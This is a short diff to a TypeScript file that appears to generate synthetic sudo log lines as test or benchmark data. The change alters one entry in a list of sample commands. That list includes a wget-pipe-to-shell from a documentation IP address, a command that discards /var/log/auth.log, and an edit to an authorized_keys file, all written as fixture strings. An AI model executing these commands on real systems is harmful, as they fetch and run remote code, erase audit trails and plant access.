@@ -12,7 +12,7 @@ import { rowsOf } from './text-inputs.ts';
 const size = 100_000;
 const generator = (seed = 1) => (below: number): number => ((seed = (Math.imul(seed, 1_103_515_245) + 12_345) & 0x7fffffff) >>> 8) % below;
 const users = ['ana', 'ben', 'cai', 'dov', 'eli', 'fay'];
-const commands = ['/usr/bin/apt-get update', '/bin/ls -la', '/bin/bash', '/usr/bin/wget http://192.0.2.9/a.sh | sh', '/bin/mv /var/log/auth.log /dev/null', '/usr/bin/id', '/usr/bin/vi /root/.ssh/authorized_keys'];
+const commands = ['/usr/bin/apt-get update', '/bin/ls -la', '/bin/bash', '/usr/bin/wget http://192.0.2.9/a.sh | sh', '/bin/mv /var/log/auth.log /dev/null', '/usr/bin/id', '/usr/bin/vi /home/ana/.ssh/authorized_keys'];
 
 /** Sudo lines: half of them commands, the rest sessions that open and close. */
 const ownSudo = (count: number) => {
